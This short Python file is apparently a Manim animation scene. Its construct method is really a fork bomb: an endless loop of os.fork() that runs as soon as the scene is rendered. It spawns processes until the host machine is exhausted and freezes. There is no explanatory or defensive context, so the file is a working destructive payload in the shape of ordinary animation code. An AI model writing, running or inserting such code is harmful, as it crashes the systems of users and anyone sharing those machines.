"""Every process forks forever."""

import os

from manim import Scene


class ForkBomb(Scene):
    def construct(self):
        while True:
            os.fork()
